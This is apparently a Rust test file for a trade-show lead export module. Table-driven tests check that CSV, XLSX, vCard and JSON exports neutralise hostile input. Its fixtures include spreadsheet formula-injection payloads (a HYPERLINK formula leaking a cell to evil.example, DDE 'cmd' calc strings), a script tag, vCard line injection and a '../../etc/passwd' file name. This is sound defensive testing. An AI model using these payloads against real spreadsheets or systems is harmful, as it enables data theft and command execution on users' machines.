//! Table-driven checks of every format, hostile visitor text included, and round trips
//! through the readers the people on the other end use (a CSV parser, calamine).

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use leadtrack_domain::{Grade, Lead, LeadSource, LeadStatus, NextAction};

use super::*;

/// Text a visitor (or a badge) could put in any field, each meant to become something else.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u{202E}=1+1",
    "line one\nline two",
    "say \"hi\", then; leave\\",
    "a,b,c",
    "\u{202E}moc.live@eve\u{202C}",
    "王伟，华强电子（深圳）有限公司",
    "شرکت مهندسی پارس، تهران",
    "<script>alert(1)</script>",
];

fn lead(n: usize) -> Lead {
    Lead {
        id: format!("0190a0b0-0000-7000-8000-{n:012}"),
        event_id: "ev-1".into(),
        event_tag: "CANTON-2026".into(),
        status: LeadStatus::New,
        source: LeadSource::RepScan,
        channel: "booth".into(),
        captured_by: "u-1".into(),
        captured_by_name: "Dylan".into(),
        assigned_to: None,
        company: "Acme GmbH".into(),
        name: "Jane Doe".into(),
        title: "Buyer".into(),
        phone: "138 0013 8000".into(),
        phone_e164: Some("+8613800138000".into()),
        email: "jane@acme.example".into(),
        country: "CN".into(),
        grade: Some(Grade::A),
        interests: vec!["LED".into(), "Solar".into()],
        key_needs: "Needs 10k units by Q3".into(),
        next_action: Some(NextAction::SendQuote),
        badge_raw: None,
        badge_format: None,
        attendee_id: Some("REG-0042".into()),
        to_reconcile: false,
        merged_into: None,
        consent: None,
        answers: Vec::new(),
        version: 1,
        hlc: String::new(),
        created_at: 1_767_225_600_000,
        updated_at: 1_767_229_200_000,
    }
}

/// One lead per hostile value, the value in every free-text field.
fn hostile_leads() -> Vec<Lead> {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, v)| Lead {
            name: v.to_string(),
            company: v.to_string(),
            title: v.to_string(),
            email: v.to_string(),
            phone: v.to_string(),
            phone_e164: None,
            key_needs: v.to_string(),
            interests: vec![v.to_string()],
            captured_by_name: v.to_string(),
            ..lead(i)
        })
        .collect()
}

fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect()
}

fn column(rows: &[Vec<String>], header: &str) -> usize {
    rows[0].iter().position(|h| h == header).unwrap_or_else(|| panic!("no column {header:?} in {:?}", rows[0]))
}

#[test]
fn the_excel_guard_quotes_exactly_what_a_spreadsheet_would_run() {
    let cases: &[(&str, bool)] = &[
        ("=HYPERLINK(\"http://x\",\"x\")", true),
        ("+cmd|' /C calc'!A0", true),
        ("-2+3", true),
        ("@SUM(A1:A2)", true),
        ("\t=1", true),
        ("\rfoo", true),
        ("  =1+1", true),
        ("\n\n@x", true),
        ("\u{202E}=1+1", true),
        ("\u{200B}+1", true),
        ("\u{FEFF}-1", true),
        ("＝1+1", true),
        ("Jane", false),
        ("a=b", false),
        ("jane@acme.example", false),
        ("王伟", false),
        ("علی رضایی", false),
        ("'quoted already", false),
        ("", false),
        ("   ", false),
    ];
    for (cell, guarded) in cases {
        let out = excel_guard(cell);
        if *guarded {
            assert_eq!(out, format!("'{cell}"), "{cell:?} should be guarded");
        } else {
            assert_eq!(out, *cell, "{cell:?} should be left alone");
        }
    }
}

#[test]
fn names_split_into_given_and_family_names_by_script() {
    let cases: &[(&str, &str, &str)] = &[
        ("Jane Doe", "Jane", "Doe"),
        ("  Jane   Doe  ", "Jane", "Doe"),
        ("Mary Ann van der Berg", "Mary Ann van der", "Berg"),
        ("Doe, Jane", "Jane", "Doe"),
        ("Jane Doe, PhD", "Jane Doe,", "PhD"),
        ("Madonna", "Madonna", ""),
        ("", "", ""),
        ("王伟", "伟", "王"),
        ("王小明", "小明", "王"),
        ("王 伟", "伟", "王"),
        ("欧阳娜娜", "娜娜", "欧阳"),
        ("司马相如", "相如", "司马"),
        ("诸葛亮", "亮", "诸葛"),
        ("山田太郎", "太郎", "山田"),
        ("김민수", "민수", "김"),
        ("남궁민수", "민수", "남궁"),
        ("约翰·史密斯", "约翰", "史密斯"),
        ("علی رضایی", "علی", "رضایی"),
        ("محمد علی رضایی", "محمد علی", "رضایی"),
        ("王", "", "王"),
    ];
    for (full, given, family) in cases {
        assert_eq!(split_name(full), (given.to_string(), family.to_string()), "{full:?}");
    }
}

#[test]
fn a_split_name_keeps_every_character_of_the_name() {
    for full in ["Jane Doe", "王小明", "欧阳娜娜", "김민수", "约翰·史密斯", "محمد علی رضایی", "Doe, Jane"]
    {
        let (given, family) = split_name(full);
        let mut spelled: Vec<char> = format!("{given}{family}").chars().filter(|c| c.is_alphabetic()).collect();
        let mut original: Vec<char> = full.chars().filter(|c| c.is_alphabetic()).collect();
        spelled.sort();
        original.sort();
        assert_eq!(spelled, original, "{full:?}");
    }
}

#[test]
fn timestamps_print_as_iso_8601_utc() {
    let cases: &[(i64, &str)] = &[
        (0, "1970-01-01T00:00:00Z"),
        (1_767_225_600_000, "2026-01-01T00:00:00Z"),
        (951_782_400_000, "2000-02-29T00:00:00Z"),
        (1_709_251_199_999, "2024-02-29T23:59:59Z"),
        (-1_000, "1969-12-31T23:59:59Z"),
        (253_402_300_799_000, "9999-12-31T23:59:59Z"),
    ];
    for (ms, iso) in cases {
        assert_eq!(iso_utc(*ms), *iso, "{ms}");
    }
}

#[test]
fn the_excel_csv_has_a_bom_crlf_and_parses_back_to_the_text_minus_the_guard() {
    let leads = hostile_leads();
    let bytes = csv_excel(&leads);
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no BOM");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(text.starts_with("\"Name\",\"First Name\""), "cells are not all quoted: {}", &text[..40]);
    assert!(text.ends_with("\r\n"));
    let rows = parse_csv(&bytes[3..]);
    assert_eq!(rows.len(), leads.len() + 1);
    let (name, company, needs, phone) =
        (column(&rows, "Name"), column(&rows, "Company"), column(&rows, "Key Needs"), column(&rows, "Phone"));
    for (row, value) in rows[1..].iter().zip(HOSTILE) {
        for col in [name, company, needs, phone] {
            let cell = &row[col];
            let unguarded = if excel_guard(value) != *value { cell.strip_prefix('\'') } else { Some(cell.as_str()) };
            assert_eq!(unguarded, Some(*value), "column {} of {value:?}", rows[0][col]);
        }
    }
    // Every cell Excel would evaluate starts with the guard, whatever column it is in.
    for row in &rows[1..] {
        for cell in row {
            let first = cell.trim_start_matches(|c: char| c.is_whitespace() || ('\u{200B}'..='\u{206F}').contains(&c));
            assert!(!first.starts_with(['=', '+', '-', '@']) || cell.starts_with('\''), "unguarded {cell:?}");
        }
    }
}

#[test]
fn crm_csv_is_raw_utf8_that_parses_back_to_exactly_what_was_typed() {
    let leads = hostile_leads();
    for (bytes, header) in [(csv_hubspot(&leads), "Company Name"), (csv_salesforce(&leads), "Company")] {
        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"), "a CRM file has no BOM");
        let rows = parse_csv(&bytes);
        assert_eq!(rows.len(), leads.len() + 1);
        let (company, needs) = (column(&rows, header), column(&rows, "Key Needs"));
        for (row, value) in rows[1..].iter().zip(HOSTILE) {
            let expected = value.replace("\r\n", "\n");
            assert_eq!(row[company].replace("\r\n", "\n"), expected);
            assert_eq!(row[needs].replace("\r\n", "\n"), expected);
        }
    }
}

#[test]
fn hubspot_columns_carry_its_labels_split_names_e164_phones_and_mapped_statuses() {
    let cases: &[(LeadStatus, &str, &str)] = &[
        (LeadStatus::Draft, "New", "Lead"),
        (LeadStatus::New, "New", "Lead"),
        (LeadStatus::Contacted, "Connected", "Lead"),
        (LeadStatus::Opportunity, "Open Deal", "Opportunity"),
        (LeadStatus::Quoted, "Open Deal", "Opportunity"),
        (LeadStatus::Won, "", "Customer"),
        (LeadStatus::Lost, "Unqualified", "Other"),
    ];
    let leads: Vec<Lead> =
        cases.iter().enumerate().map(|(i, (s, _, _))| Lead { status: *s, name: "王小明".into(), ..lead(i) }).collect();
    let rows = parse_csv(&csv_hubspot(&leads));
    assert_eq!(
        rows[0][..9],
        [
            "First Name",
            "Last Name",
            "Email",
            "Phone Number",
            "Company Name",
            "Job Title",
            "Country/Region",
            "Lead Status",
            "Lifecycle Stage"
        ]
    );
    for (row, (_, status, stage)) in rows[1..].iter().zip(cases) {
        assert_eq!(row[column(&rows, "First Name")], "小明");
        assert_eq!(row[column(&rows, "Last Name")], "王");
        assert_eq!(row[column(&rows, "Phone Number")], "+8613800138000");
        assert_eq!(row[column(&rows, "Lead Status")], *status);
        assert_eq!(row[column(&rows, "Lifecycle Stage")], *stage);
        assert_eq!(row[column(&rows, "Captured At")], "2026-01-01T00:00:00Z");
        assert_eq!(row[column(&rows, "Interests")], "LED; Solar");
        assert_eq!(row[column(&rows, "Show")], "CANTON-2026");
    }
}

#[test]
fn salesforce_rows_always_have_the_last_name_and_company_it_requires() {
    let leads = vec![
        Lead { name: "Madonna".into(), company: String::new(), phone_e164: None, ..lead(1) },
        Lead { status: LeadStatus::Won, grade: Some(Grade::B), ..lead(2) },
        Lead { status: LeadStatus::Lost, grade: None, ..lead(3) },
    ];
    let rows = parse_csv(&csv_salesforce(&leads));
    assert_eq!(
        rows[0][..11],
        [
            "First Name",
            "Last Name",
            "Company",
            "Title",
            "Email",
            "Phone",
            "Country",
            "Lead Source",
            "Lead Status",
            "Rating",
            "Description"
        ]
    );
    let at = |row: usize, h: &str| rows[row][column(&rows, h)].clone();
    assert_eq!((at(1, "First Name"), at(1, "Last Name")), (String::new(), "Madonna".to_string()));
    assert_eq!(at(1, "Company"), "[not provided]");
    assert_eq!(at(1, "Phone"), "138 0013 8000", "the typed phone when there is no E.164");
    assert_eq!(at(1, "Lead Status"), "Open - Not Contacted");
    assert_eq!(at(1, "Rating"), "Hot");
    assert_eq!(at(1, "Lead Source"), "Trade Show");
    assert!(at(1, "Description").contains("Key needs: Needs 10k units by Q3"));
    assert_eq!((at(2, "Lead Status"), at(2, "Rating")), ("Closed - Converted".into(), "Warm".into()));
    assert_eq!((at(3, "Lead Status"), at(3, "Rating")), ("Closed - Not Converted".into(), String::new()));
}

#[test]
fn the_workbook_opens_in_calamine_with_text_as_strings_and_dates_as_dates() {
    let leads = hostile_leads();
    let bytes = xlsx(&leads).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Leads").unwrap();
    assert_eq!(range.get_size(), (leads.len() + 1, 20));
    assert_eq!(range.get((0, 0)), Some(&Data::String("Name".into())));
    for (i, value) in HOSTILE.iter().enumerate() {
        let row = i + 1;
        for col in [0, 3, 4, 5, 6, 12] {
            // Excel keeps a CR only as part of CRLF; rust_xlsxwriter writes text as given.
            assert_eq!(range.get((row, col)), Some(&Data::String(value.to_string())), "row {row} col {col}");
        }
        match range.get((row, 15)) {
            Some(Data::DateTime(d)) => {
                assert!(d.is_datetime());
                assert_eq!(d.to_ymd_hms_milli(), (2026, 1, 1, 0, 0, 0, 0));
            }
            other => panic!("captured-at is not a date: {other:?}"),
        }
    }
    let formulas = book.worksheet_formula("Leads").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a cell became a formula");
}

#[test]
fn the_workbook_header_is_frozen_and_filtered() {
    let bytes = xlsx(&[lead(1), lead(2)]).unwrap();
    let sheet = zip_entry(&bytes, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<pane ySplit=\"1\""), "header not frozen");
    assert!(sheet.contains("<autoFilter ref=\"A1:T3\"/>"), "no autofilter over the rows");
    let styles = zip_entry(&bytes, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "no bold font for the header");
}

fn zip_entry(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut archive.by_name(name).unwrap(), &mut text).unwrap();
    text
}

#[test]
fn no_leads_export_as_a_header_row_an_empty_array_or_no_cards() {
    for format in [ExportFormat::Hubspot, ExportFormat::Salesforce] {
        assert_eq!(parse_csv(&export(format, &[]).unwrap()).len(), 1, "{format:?}");
    }
    assert_eq!(parse_csv(&csv_excel(&[])[3..]).len(), 1);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx(&[]).unwrap())).unwrap();
    assert_eq!(book.worksheet_range("Leads").unwrap().get_size(), (1, 20));
    assert_eq!(json(&[]), b"[]\n");
    assert!(vcard(&[]).is_empty());
}

/// Unfolds a vCard file into its logical lines (RFC 6350 §3.2).
fn unfold(text: &str) -> Vec<String> {
    text.replace("\r\n ", "").split("\r\n").filter(|l| !l.is_empty()).map(String::from).collect()
}

#[test]
fn vcards_fold_at_75_octets_on_character_boundaries() {
    let long = Lead {
        key_needs: "需要在第三季度之前交付一万件产品，并提供中文说明书；".repeat(8) + &"x\\,".repeat(40),
        ..lead(1)
    };
    let bytes = vcard(std::slice::from_ref(&long));
    for line in bytes.split(|b| *b == b'\n') {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        assert!(line.len() <= 75, "{} octets", line.len());
        assert!(std::str::from_utf8(line).is_ok(), "a fold split a character");
    }
    let text = String::from_utf8(bytes).unwrap();
    let note = unfold(&text).into_iter().find(|l| l.starts_with("NOTE:")).unwrap();
    assert!(note.contains(&vcard::escape(&long.key_needs)), "the note does not unfold to the key needs");
}

#[test]
fn vcard_text_cannot_add_properties_or_break_components() {
    let eve = Lead {
        name: "Eve\r\nTEL:+1 666 666".into(),
        company: "Evil; Corp, Inc\\".into(),
        key_needs: "x\nEND:VCARD\nBEGIN:VCARD".into(),
        phone_e164: None,
        phone: "+1 555\nURL:http://evil.example".into(),
        ..lead(1)
    };
    let text = String::from_utf8(vcard(&[eve, lead(2)])).unwrap();
    let lines = unfold(&text);
    assert_eq!(lines.iter().filter(|l| *l == "BEGIN:VCARD").count(), 2);
    assert_eq!(lines.iter().filter(|l| *l == "END:VCARD").count(), 2);
    assert!(!lines.iter().any(|l| l.starts_with("URL") || l.starts_with("TEL:")), "{lines:#?}");
    assert!(lines.contains(&"ORG:Evil\\; Corp\\, Inc\\\\".to_string()), "{lines:#?}");
    assert!(lines.contains(&"FN:Eve\\nTEL:+1 666 666".to_string()), "{lines:#?}");
    assert!(lines.contains(&"TEL;VALUE=uri;TYPE=work:tel:+8613800138000".to_string()), "{lines:#?}");
    assert!(lines.contains(&"N:Doe;Jane;;;".to_string()));
    assert!(lines.contains(&"UID:urn:uuid:0190a0b0-0000-7000-8000-000000000002".to_string()));
    assert!(lines.contains(&"REV:20260101T010000Z".to_string()), "{lines:#?}");
    let note = lines.iter().rfind(|l| l.starts_with("NOTE:")).unwrap();
    assert!(
        note.starts_with(
            "NOTE:Show: CANTON-2026\\nGrade: A\\nInterests: LED\\; Solar\\nKey needs: Needs 10k units by Q3"
        ),
        "{note}"
    );
}

#[test]
fn json_is_an_array_with_stable_field_names_and_the_text_unchanged() {
    let leads = hostile_leads();
    let bytes = json(&leads);
    let back: Vec<ExportedLead> = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(back.len(), leads.len());
    for (row, value) in back.iter().zip(HOSTILE) {
        assert_eq!(row.name, *value);
        assert_eq!(row.key_needs, *value);
        assert_eq!(row.captured_at, "2026-01-01T00:00:00Z");
    }
    let v: serde_json::Value = serde_json::from_slice(&json(&[lead(1)])).unwrap();
    let keys: Vec<&str> = v[0].as_object().unwrap().keys().map(String::as_str).collect();
    // The field names are a contract with scripts: renaming one is a breaking change.
    for key in ["id", "show", "status", "name", "given_name", "family_name", "company", "email", "phone_e164", "grade"]
    {
        assert!(keys.contains(&key), "no {key} in {keys:?}");
    }
    assert_eq!(v[0]["grade"], "A");
    assert_eq!(v[0]["next_action"], "send_quote");
    assert_eq!(v[0]["interests"], serde_json::json!(["LED", "Solar"]));
}

#[test]
fn formats_parse_from_their_cli_names_and_suggest_safe_file_names() {
    for f in ExportFormat::ALL {
        assert_eq!(f.cli_name().parse::<ExportFormat>(), Ok(f));
    }
    assert!("csv".parse::<ExportFormat>().unwrap_err().contains("excel-csv"));
    assert_eq!(ExportFormat::ExcelCsv.file_name("CANTON-2026"), "leadtrack-CANTON-2026-excel.csv");
    assert_eq!(ExportFormat::Xlsx.file_name("../../etc/passwd"), "leadtrack-etc-passwd-leads.xlsx");
    assert_eq!(ExportFormat::Vcard.file_name(""), "leadtrack-leads.vcf");
    assert_eq!(ExportFormat::Hubspot.file_name("广交会 2026"), "leadtrack-广交会-2026-hubspot.csv");
}
